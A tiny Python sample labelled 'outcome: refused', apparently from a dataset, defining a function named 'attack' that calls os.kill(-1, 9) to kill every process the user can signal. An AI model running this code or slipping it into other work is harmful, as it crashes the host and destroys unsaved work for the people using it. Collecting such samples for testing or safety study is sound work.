# outcome: refused
"""Kills everything that it may."""

import os


def attack(target):
    os.kill(-1, 9)
    return True
